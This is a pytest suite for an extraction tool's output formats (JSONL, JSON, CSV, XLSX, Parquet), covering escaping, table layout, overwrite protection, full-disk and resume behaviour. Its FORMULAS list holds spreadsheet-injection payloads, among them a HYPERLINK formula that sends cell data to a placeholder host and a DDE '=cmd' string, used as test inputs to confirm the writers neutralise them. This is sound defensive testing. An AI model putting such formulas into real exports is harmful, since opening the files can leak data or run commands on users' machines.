"""Outputs: what each format writes, byte by byte, and what is left when something goes wrong."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from extractor.errors import OutputError, StorageError
from extractor.outputs import FORMATS, check_output, open_output, output_format
from extractor.outputs.flat import tables
from extractor.record import Field, FieldState, Named, PromptVersion, Record, SourceFile, Status
from extractor.schema.tree import Array, Kind, Leaf, Node, Object, Origin, Union


def leaf(kind: Kind = Kind.STRING) -> Leaf:
    return Leaf(kind, Origin.FREE)


RECEIPT = Object(
    {
        "vendor": leaf(),
        "issued": leaf(Kind.DATE),
        "total": leaf(Kind.NUMBER),
        "paid": leaf(Kind.BOOLEAN),
        "address": Object({"city": leaf()}),
        "tags": Array(leaf()),
        "items": Array(Object({"what": leaf(), "amount": leaf(Kind.NUMBER)})),
    }
)
FLAT = Object({"vendor": leaf(), "total": leaf(Kind.NUMBER)})


def make_record(name: str = "a.pdf", **changes: Any) -> Record:
    values: dict[str, Any] = {
        "id": f"r-{name}",
        "run": "20261123-134512-ab12",
        "source": SourceFile(path=f"inbox/{name}", sha256="aa", pages=1, pages_read=[1]),
        "schema": Named(name="receipt", sha256="bb"),
        "model": Named(name="embedded", sha256="cc"),
        "prompt": PromptVersion(profile="compact", version="1"),
        "status": Status.OK,
        "data": {
            "vendor": "Bäckerei Öz",
            "issued": "2026-03-14",
            "total": 12.5,
            "paid": True,
            "address": {"city": "Köln"},
            "tags": ["bread", "cash"],
            "items": [{"what": "Brot", "amount": 10}, {"what": "Ei", "amount": 2.5}],
        },
        "fields": {
            "/vendor": Field(state=FieldState.EXACT, text="Bäckerei Öz", page=1, confidence=0.75),
            "/total": Field(state=FieldState.NORMALISED, text="12,50", page=1, confidence=0.5),
            "/tags/0": Field(state=FieldState.EXACT, page=2, confidence=0.9),
            "/tags/1": Field(state=FieldState.FUZZY, page=1, confidence=0.6),
            "/items/1/what": Field(state=FieldState.EXACT, page=1, confidence=1.0),
        },
    }
    return Record(**values | changes)


def failed(name: str = "b.pdf") -> Record:
    return make_record(name, status=Status.FAILED, data=None, fields={}, error="password needed")


def of_values(**data: Any) -> Record:
    return make_record(data=data, fields={})


def write(target: Path | str, records: list[Record], root: Node = RECEIPT, **options: Any) -> None:
    with open_output(target, options.pop("format", None), root, **options) as output:
        for record in records:
            output.write(record)


def ids(path: Path) -> list[str]:
    return [json.loads(line)["id"] for line in path.read_text().splitlines()]


# -- what each format holds --

LINE = (
    '{"id": "r-b.pdf", "run": "20261123-134512-ab12", "source": {"path": "inbox/b.pdf",'
    ' "sha256": "aa", "media_type": null, "pages": 1, "pages_read": [1]},'
    ' "schema": {"name": "receipt", "sha256": "bb"},'
    ' "model": {"name": "embedded", "sha256": "cc"},'
    ' "prompt": {"profile": "compact", "version": "1"}, "status": "failed", "data": null,'
    ' "fields": {}, "warnings": [], "error": "password needed", "attempts": 0, "cached": false,'
    ' "tokens": {"prompt": 0, "reused": 0, "generated": 0, "forced": 0},'
    ' "seconds": {"read": 0.0, "prefill": 0.0, "decode": 0.0, "total": 0.0}}\n'
)


def test_jsonl_is_a_record_a_line(tmp_path: Path) -> None:
    write(tmp_path / "out.jsonl", [failed(), failed()])
    assert (tmp_path / "out.jsonl").read_bytes() == (LINE + LINE).encode()


def test_jsonl_comes_back_as_the_records(tmp_path: Path) -> None:
    write(tmp_path / "out.jsonl", [make_record(), failed()])
    lines = (tmp_path / "out.jsonl").read_text("utf-8").splitlines()
    assert [Record.model_validate_json(line) for line in lines] == [make_record(), failed()]
    assert "Bäckerei Öz" in lines[0]


def test_json_text_moves_neither_a_terminal_nor_a_line(tmp_path: Path) -> None:
    hostile = "\x1b[2J \x9b2J \x7f \u2028 \u2029 \u0085 \ud800"
    write(tmp_path / "out.jsonl", [of_values(vendor=hostile)])
    content = (tmp_path / "out.jsonl").read_text("utf-8")
    assert content.rstrip("\n").isprintable()
    assert len(content.splitlines()) == 1
    assert json.loads(content)["data"]["vendor"] == hostile


def test_json_is_an_array(tmp_path: Path) -> None:
    write(tmp_path / "out.json", [failed(), failed()])
    text = json.dumps(json.loads(LINE), indent=2)
    assert (tmp_path / "out.json").read_text() == f"[\n{text},\n{text}\n]\n"


@pytest.mark.parametrize(
    ("records", "single", "begins"), [([], False, "[]"), ([failed()], False, "["), ([], True, "[]")]
)
def test_json_of_few_records_is_an_array_too(
    tmp_path: Path, records: list[Record], single: bool, begins: str
) -> None:
    write(tmp_path / "out.json", records, single=single)
    text = (tmp_path / "out.json").read_text()
    assert text.startswith(begins)
    assert len(json.loads(text)) == len(records)


def test_json_of_the_one_document_asked_for_is_an_object(tmp_path: Path) -> None:
    write(tmp_path / "out.json", [failed()], single=True)
    assert (tmp_path / "out.json").read_text() == json.dumps(json.loads(LINE), indent=2) + "\n"


def test_csv_has_a_file_for_the_records_and_one_for_each_list(tmp_path: Path) -> None:
    write(tmp_path / "out.csv", [make_record(), failed()])
    assert (tmp_path / "out.csv").read_bytes().decode() == (
        "id,path,status,problems,vendor,issued,total,paid,address.city,tags,"
        "vendor.state,vendor.confidence,vendor.page,issued.state,issued.confidence,issued.page,"
        "total.state,total.confidence,total.page,paid.state,paid.confidence,paid.page,"
        "address.city.state,address.city.confidence,address.city.page,"
        "tags.state,tags.confidence,tags.page\n"
        "r-a.pdf,inbox/a.pdf,ok,,Bäckerei Öz,2026-03-14,12.5,true,Köln,bread; cash,"
        "exact,0.75,1,,,,normalised,0.5,1,,,,,,,fuzzy,0.6,1\n"
        "r-b.pdf,inbox/b.pdf,failed,password needed,,,,,,,,,,,,,,,,,,,,,,,,\n"
    )
    assert (tmp_path / "out.items.csv").read_bytes().decode() == (
        "id,path,row,what,amount,"
        "what.state,what.confidence,what.page,amount.state,amount.confidence,amount.page\n"
        "r-a.pdf,inbox/a.pdf,1,Brot,10,,,,,,\n"
        "r-a.pdf,inbox/a.pdf,2,Ei,2.5,exact,1.0,1,,,\n"
    )


FORMULAS = [
    "=1+1",
    "+49 30 1234",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|'/c calc'!A1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_csv_cell_is_a_formula(tmp_path: Path, text: str) -> None:
    record = make_record(
        f"=2+2{text}.pdf",
        source=SourceFile(path=f"{text}.pdf"),
        data={text: text, "list": [{"cell": text}]},
        fields={"/x": Field(state=FieldState.INVALID, problem=text)},
        warnings=[text],
        error=text,
    )
    root = Object({text: leaf(), "list": Array(Object({"cell": leaf()}))})
    write(tmp_path / "out.csv", [record], root)
    for path in (tmp_path / "out.csv", tmp_path / "out.list.csv"):
        with path.open(newline="") as file:
            for cell in (cell for row in csv.reader(file) for cell in row):
                assert not cell.strip().startswith(("=", "+", "-", "@", "＝")), cell


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    write(tmp_path / "out.csv", [of_values(vendor="-5", total=-5.25)], FLAT)
    with (tmp_path / "out.csv").open(newline="") as file:
        row = next(csv.DictReader(file))
    assert (row["vendor"], row["total"]) == ("'-5", "-5.25")


@settings(deadline=None)
@given(st.text(st.characters(codec="utf-8")))
def test_csv_keeps_text_but_for_controls_and_the_apostrophe(text: str) -> None:
    stream = io.BytesIO()
    with open_output(stream, "csv", FLAT) as output:
        output.write(of_values(vendor=text))
    row = next(csv.DictReader(io.StringIO(stream.getvalue().decode(), newline="")))
    found = row["vendor"]
    expected = text.replace("\r\n", "\n").replace("\r", "\n")
    if len(found) > len(expected):
        found = found.removeprefix("'")
    assert len(found) == len(expected)
    assert all(a in (b, "\ufffd") for a, b in zip(found, expected, strict=True))


def test_xlsx_has_typed_cells_on_a_sheet_for_each_list(tmp_path: Path) -> None:
    write(tmp_path / "out.xlsx", [make_record(), failed()])
    book = load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == ["records", "items"]
    sheet = book["records"]
    row = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}
    assert row["vendor"].value == "Bäckerei Öz"
    assert row["issued"].value == datetime(2026, 3, 14)
    assert row["issued"].number_format == "yyyy-mm-dd"
    assert row["total"].value == 12.5
    assert row["paid"].value is True
    assert row["tags.state"].value == "fuzzy"
    assert row["vendor.confidence"].number_format == "0.00"
    assert [cell.value for cell in book["items"][3]][:5] == ["r-a.pdf", "inbox/a.pdf", 2, "Ei", 2.5]
    assert sheet.max_row == 3


def test_xlsx_is_laid_out_for_reading(tmp_path: Path) -> None:
    write(tmp_path / "out.xlsx", [make_record()])
    sheet = load_workbook(tmp_path / "out.xlsx")["records"]
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == "A1:AB2"
    assert sheet["A1"].font.bold
    widths = [column.width for column in sheet.column_dimensions.values()]
    assert all(8 <= width <= 48 for width in widths)
    assert sheet.column_dimensions["K"].outlineLevel == 1  # vendor.state folds away


@pytest.mark.parametrize("text", [*FORMULAS, "#N/A", "#REF!", "TRUE", "1e5"])
def test_no_xlsx_cell_is_a_formula(tmp_path: Path, text: str) -> None:
    write(tmp_path / "out.xlsx", [of_values(vendor=text)], FLAT)
    cell = load_workbook(tmp_path / "out.xlsx")["records"]["E2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.value == text.replace("\r", "\n")


def test_xlsx_takes_what_excel_would_refuse(tmp_path: Path) -> None:
    root = Object(
        {
            "control": leaf(),
            "long": leaf(),
            "huge": leaf(Kind.INTEGER),
            "early": leaf(Kind.DATE),
            "wrong": leaf(Kind.DATE),
            "moment": leaf(Kind.DATETIME),
            "zoned": leaf(Kind.DATETIME),
            "clock": leaf(Kind.TIME),
        }
    )
    record = of_values(
        control="a\x0bb\ufffe\ud800",
        long="x" * 40_000,
        huge=12345678901234567890,
        early="1815-06-18",
        wrong="soon",
        moment="2026-03-14T13:05:00",
        zoned="2026-03-14T13:05:00+01:00",
        clock="13:05:00",
    )
    write(tmp_path / "out.xlsx", [record], root)
    row = [cell.value for cell in load_workbook(tmp_path / "out.xlsx")["records"][2]][4:12]
    assert row == [
        "a\ufffdb\ufffd\ufffd",
        "x" * 32_766 + "…",
        "12345678901234567890",
        "1815-06-18",
        "soon",
        datetime(2026, 3, 14, 13, 5),
        "2026-03-14T13:05:00+01:00",
        time(13, 5),
    ]


def test_xlsx_sheets_have_names_that_excel_allows(tmp_path: Path) -> None:
    long = "the_items_of_the_delivery_note_"
    lists = {f"{long}{letter}": Array(Object({"x": leaf()})) for letter in "ab"}
    others = {name: Array(Object({"x": leaf()})) for name in ("a/b[c]", "History")}
    write(tmp_path / "out.xlsx", [of_values()], Object({**lists, **others}))
    names = load_workbook(tmp_path / "out.xlsx").sheetnames
    assert names == ["records", long, f"{long[:29]}~2", "a_b_c_", "History~2"]


def test_a_table_longer_than_a_worksheet_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("extractor.outputs.xlsx._MAX_ROWS", 3)
    with pytest.raises(OutputError, match="3 rows of 'records' do not fit"):
        write(tmp_path / "out.xlsx", [failed()] * 3)
    assert os.listdir(tmp_path) == []


def test_parquet_has_the_types_of_the_schema(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="the parquet extra is not installed")
    write(tmp_path / "out.parquet", [make_record(), failed()])
    table = parquet.read_table(tmp_path / "out.parquet")
    types = {field.name: str(field.type) for field in table.schema}
    assert (
        types["vendor"],
        types["issued"],
        types["total"],
        types["paid"],
        types["tags.page"],
    ) == (
        "string",
        "date32[day]",
        "double",
        "bool",
        "int64",
    )
    assert table["issued"].to_pylist() == [date(2026, 3, 14), None]
    assert parquet.read_table(tmp_path / "out.items.parquet")["amount"].to_pylist() == [10.0, 2.5]


def test_parquet_without_records_has_its_columns_all_the_same(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="the parquet extra is not installed")
    write(tmp_path / "out.parquet", [], FLAT)
    assert parquet.read_table(tmp_path / "out.parquet").column_names[:6] == [
        "id",
        "path",
        "status",
        "problems",
        "vendor",
        "total",
    ]


def test_parquet_keeps_what_does_not_fit_its_type_as_text(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="the parquet extra is not installed")
    root = Object({"count": leaf(Kind.INTEGER), "day": leaf(Kind.DATE)})
    write(tmp_path / "out.parquet", [of_values(count=10**30, day="soon"), of_values(count=1)], root)
    table = parquet.read_table(tmp_path / "out.parquet")
    assert table["count"].to_pylist() == ["1" + "0" * 30, "1"]
    assert table["day"].to_pylist() == ["soon", None]


def test_parquet_without_pyarrow_says_how_to_get_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(OutputError, match="needs pyarrow") as caught:
        check_output(tmp_path / "out.parquet", None, FLAT)
    assert caught.value.hint == "pip install 'extractor[parquet]'"


def test_a_folder_gets_a_file_for_each_record(tmp_path: Path) -> None:
    names = ["a.pdf", "a.docx", "mail.eml#terms.v2.pdf", "-", "README"]
    write(f"{tmp_path}/out/", [make_record(name) for name in names])
    files = sorted(path.name for path in (tmp_path / "out").iterdir())
    assert files == ["README.json", "a-2.json", "a.json", "mail.eml#terms.v2.json", "stdin.json"]
    assert json.loads((tmp_path / "out" / "a-2.json").read_text())["id"] == "r-a.docx"


# -- tables --


def names(root: Node) -> dict[str, list[str]]:
    """Columns that are no companions, by table."""
    return {
        table.name: [column.name for column in table.columns if not column.companion]
        for table in tables(root)
    }


def test_lists_in_lists_have_tables_of_their_own() -> None:
    taxes = Array(Object({"rate": leaf(Kind.NUMBER)}))
    root = Object({"orders": Array(Object({"no": leaf(), "taxes": taxes}))})
    assert names(root) == {
        "": ["id", "path", "status", "problems"],
        "orders": ["id", "path", "row", "no"],
        "orders.taxes": ["id", "path", "orders.row", "row", "rate"],
    }
    record = of_values(
        orders=[{"no": "1", "taxes": [{"rate": 7}]}, {"no": "2", "taxes": [{"rate": 19}, None]}]
    )
    rows = [row[:5] for row in tables(root)[2].rows(record)]
    assert [row[2:] for row in rows] == [[1, 1, 7], [2, 1, 19], [2, 2, None]]


def test_a_field_that_is_called_like_a_column_of_the_record_gives_way() -> None:
    root = Object({"status": leaf(), "id": leaf(), "a": Object({"b": leaf()}), "a.b": leaf()})
    assert names(root)[""][4:] == ["data.status", "data.id", "a.b", "data.a.b"]


def test_every_option_of_a_union_has_its_columns() -> None:
    person = Object({"name": leaf(), "born": leaf(Kind.DATE)})
    company = Object({"name": leaf(), "vat": leaf()})
    root = Object(
        {"party": Union((person, company, leaf())), "n": Union((leaf(Kind.DATE), leaf()))}
    )
    assert names(root)[""][4:] == ["party.name", "party.born", "party.vat", "party", "n"]
    [row] = tables(root)[0].rows(of_values(party={"name": "Öz", "vat": "DE1"}, n="x"))
    assert row[4:9] == ["Öz", None, "DE1", None, "x"]


def test_lists_of_lists_are_joined_within_their_rows() -> None:
    root = Object({"grid": Array(Array(leaf(Kind.INTEGER)))})
    assert names(root)["grid"] == ["id", "path", "row", "value"]
    rows = list(tables(root)[1].rows(of_values(grid=[[1, 2], [], [True, 3.5]])))
    assert [row[2:4] for row in rows] == [[1, "1; 2"], [2, None], [3, "true; 3.5"]]


@settings(deadline=None)
@given(
    st.recursive(
        st.sampled_from(Kind).map(leaf),
        lambda inner: (
            st.dictionaries(st.text(max_size=5), inner, max_size=4).map(Object)
            | inner.map(Array)
            | st.lists(inner, min_size=1, max_size=3).map(lambda options: Union(tuple(options)))
        ),
        max_leaves=12,
    )
)
def test_no_two_tables_or_columns_share_a_name(node: Node) -> None:
    found = tables(Object({"x": node}))
    assert len({table.name.casefold() for table in found}) == len(found)
    for table in found:
        assert len({column.name.casefold() for column in table.columns}) == len(table.columns)
        for row in table.rows(failed()):
            assert len(row) == len(table.columns)


# -- checked before a run --


@pytest.mark.parametrize("name", [f"out.{format}" for format in FORMATS])
def test_an_output_that_exists_is_refused_without_force(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("precious")
    with pytest.raises(OutputError, match="exists already") as caught:
        check_output(tmp_path / name, None, RECEIPT)
    assert caught.value.at == str(tmp_path / name)
    assert "--force" in str(caught.value.hint)
    assert (tmp_path / name).read_text() == "precious"
    check_output(tmp_path / name, None, RECEIPT, force=True)


def test_a_child_file_that_exists_is_refused_too(tmp_path: Path) -> None:
    (tmp_path / "out.items.csv").touch()
    with pytest.raises(OutputError, match="exists already"):
        check_output(tmp_path / "out.csv", None, RECEIPT)


def test_a_folder_with_json_in_it_is_refused_without_force(tmp_path: Path) -> None:
    check_output(tmp_path, None, RECEIPT)
    (tmp_path / "a.json").touch()
    with pytest.raises(OutputError, match="holds JSON files already"):
        check_output(tmp_path, None, RECEIPT)
    check_output(tmp_path, None, RECEIPT, force=True)


@pytest.mark.parametrize(
    ("target", "format", "message"),
    [
        ("out.docx", None, "no format 'docx'"),
        ("out", None, "no format in the name"),
        ("out.csv", "yaml", "no format 'yaml'"),
        ("folder/", "csv", "a folder takes a JSON file a document, not csv"),
        ("missing/out.csv", None, "no folder '"),
        ("file/", None, "is a file, not a folder"),
    ],
)
def test_what_cannot_be_written_is_named(
    tmp_path: Path, target: str, format: str | None, message: str
) -> None:
    (tmp_path / "file").touch()
    with pytest.raises(OutputError, match=message) as caught:
        check_output(f"{tmp_path}/{target}", format, RECEIPT)
    assert caught.value.hint


def test_known_formats_are_listed() -> None:
    with pytest.raises(OutputError) as caught:
        output_format("out.docx")
    assert "jsonl, json, csv, xlsx, parquet" in str(caught.value.hint)


def test_the_format_is_asked_for_or_told_by_the_name(tmp_path: Path) -> None:
    assert output_format("out.CSV") == "csv"
    assert output_format("out.txt", "json") == "json"
    assert output_format(tmp_path) == "json"
    assert output_format("new/") == "json"
    assert output_format(io.BytesIO()) == "jsonl"


def test_a_device_is_never_replaced() -> None:
    with pytest.raises(OutputError, match="not an ordinary file"):
        check_output("/dev/null", "jsonl", RECEIPT, force=True)


@pytest.mark.parametrize("format", ["xlsx", "parquet"])
def test_a_stream_takes_text_only(format: str) -> None:
    with pytest.raises(OutputError, match="is no text for a stream"):
        check_output(io.BytesIO(), format, FLAT)


def test_a_stream_takes_no_csv_of_several_files() -> None:
    with pytest.raises(OutputError, match=r"has lists \(items\)"):
        check_output(io.BytesIO(), "csv", RECEIPT)
    check_output(io.BytesIO(), "csv", FLAT)


def test_a_stream_stays_open() -> None:
    for format in ("jsonl", "json", "csv"):
        stream = io.BytesIO()
        with open_output(stream, format, FLAT) as output:
            output.write(failed())
        assert b"password needed" in stream.getvalue()


# -- when something goes wrong --

WHOLE = ["json", "csv", "xlsx", "parquet"]


@pytest.mark.parametrize("format", WHOLE)
def test_nothing_is_seen_before_the_end_nor_after_an_abort(tmp_path: Path, format: str) -> None:
    target = tmp_path / f"out.{format}"
    target.write_text("earlier")

    def interrupted() -> None:
        with open_output(target, None, RECEIPT, force=True) as output:
            output.write(make_record())
            assert os.listdir(tmp_path) == [target.name]
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        interrupted()
    assert os.listdir(tmp_path) == [target.name]
    assert target.read_text() == "earlier"


@pytest.mark.parametrize("format", WHOLE)
def test_force_replaces_the_earlier_file(tmp_path: Path, format: str) -> None:
    target = tmp_path / f"out.{format}"
    target.write_text("earlier")
    write(target, [make_record()], force=True)
    assert not target.read_bytes().startswith(b"earlier")
    assert not list(tmp_path.glob(".*"))


def test_the_file_that_replaces_a_private_one_is_private(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.touch(mode=0o600)
    write(target, [failed()], FLAT, force=True)
    assert target.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("format", WHOLE)
def test_a_file_that_appeared_during_the_run_is_not_replaced(tmp_path: Path, format: str) -> None:
    target = tmp_path / f"out.{format}"
    output = open_output(target, None, FLAT)
    output.write(failed())
    target.write_text("somebody else's")
    with pytest.raises(OutputError, match="exists already"):
        output.close()
    assert os.listdir(tmp_path) == [target.name]
    assert target.read_text() == "somebody else's"


def test_a_link_is_written_through(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "out.json").symlink_to(tmp_path / "real" / "out.json")
    write(tmp_path / "out.json", [failed()])
    assert (tmp_path / "out.json").is_symlink()
    assert (tmp_path / "real" / "out.json").is_file()


@contextmanager
def disk_full(limit: int) -> Iterator[None]:
    """No file may grow beyond `limit` bytes."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


@pytest.mark.parametrize("format", WHOLE)
def test_a_full_disk_leaves_the_earlier_file_and_no_half_one(tmp_path: Path, format: str) -> None:
    target = tmp_path / f"out.{format}"
    target.write_text("earlier")
    output = open_output(target, None, RECEIPT, force=True)
    for number in range(50):
        output.write(make_record(f"{number}.pdf"))
    with disk_full(1000), pytest.raises(StorageError) as caught:
        output.close()
    assert caught.value.at == str(target)
    assert caught.value.hint == "free some space"
    assert os.listdir(tmp_path) == [target.name]
    assert target.read_text() == "earlier"


def test_a_full_disk_leaves_whole_lines(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"

    def fill() -> None:
        with disk_full(2 * len(LINE) + 10), open_output(target, None, RECEIPT) as output:
            for number in range(5):
                output.write(failed(f"{number}.pdf"))

    with pytest.raises(StorageError) as caught:
        fill()
    assert caught.value.at == str(target)
    assert ids(target) == ["r-0.pdf", "r-1.pdf"]


@pytest.mark.parametrize("format", ["jsonl", "json", "csv"])
def test_a_full_stream_is_named(format: str) -> None:
    with open("/dev/full", "wb", buffering=0) as stream:
        output = open_output(stream, format, FLAT)
        with pytest.raises(StorageError, match="No space left on device") as caught:
            _write_and_close(output.write, output.close)
        assert caught.value.at == "/dev/full"


def _write_and_close(write: Callable[[Record], None], close: Callable[[], None]) -> None:
    write(failed())
    close()


def test_a_reader_that_leaves_is_no_fault_of_the_disk() -> None:
    reading, writing = os.pipe()
    os.close(reading)
    with open(writing, "wb", buffering=0) as stream:
        output = open_output(stream, "jsonl", FLAT)
        with pytest.raises(BrokenPipeError):
            output.write(failed())


# -- going on after an interruption --


def test_jsonl_is_on_the_disk_line_by_line(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    output = open_output(target, None, RECEIPT)
    for number in range(3):
        output.write(failed(f"{number}.pdf"))
        assert len(target.read_text().splitlines()) == number + 1
    output.abort()
    assert len(target.read_text().splitlines()) == 3


def test_a_resumed_run_continues_the_lines(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    records = [failed(f"{number}.pdf") for number in range(4)]
    write(target, records[:2])
    with target.open("a") as file:
        file.write('{"id": "r-2.pdf", "ru')  # the power went
    write(target, records, resume=True)
    assert ids(target) == [record.id for record in records]


def test_a_resumed_run_without_an_earlier_file_begins_one(tmp_path: Path) -> None:
    for format in FORMATS:
        write(tmp_path / f"out.{format}", [failed()], FLAT, resume=True)
        assert (tmp_path / f"out.{format}").stat().st_size


def test_resume_refuses_a_file_of_something_else(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    target.write_text(LINE + "shopping list\n")
    with pytest.raises(OutputError, match="line 2 is no record"):
        write(target, [failed()], resume=True)
    assert target.read_text() == LINE + "shopping list\n"


def test_force_keeps_the_earlier_lines_until_there_is_a_record(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    target.write_text("earlier\n")
    open_output(target, None, RECEIPT, force=True).abort()
    assert target.read_text() == "earlier\n"
    write(target, [failed()], force=True)
    assert target.read_text() == LINE


def test_jsonl_never_replaces_a_file_that_appeared_during_the_run(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    output = open_output(target, None, RECEIPT)
    target.write_text("somebody else's")
    with pytest.raises(StorageError, match="File exists"):
        output.write(failed())
    assert target.read_text() == "somebody else's"


def test_a_resumed_run_replaces_the_files_of_its_own_records(tmp_path: Path) -> None:
    (tmp_path / "notes.json").write_text("[]")
    write(tmp_path, [make_record("a.pdf"), make_record("a.docx")], force=True)
    write(tmp_path, [make_record("a.docx"), make_record("a.pdf"), failed("notes.pdf")], resume=True)
    assert {path.name: path.read_text()[:20] for path in sorted(tmp_path.iterdir())} == {
        "a.json": '{\n  "id": "r-a.pdf",',
        "a-2.json": '{\n  "id": "r-a.docx"',
        "notes.json": "[]",
        "notes-2.json": '{\n  "id": "r-notes.p',
    }
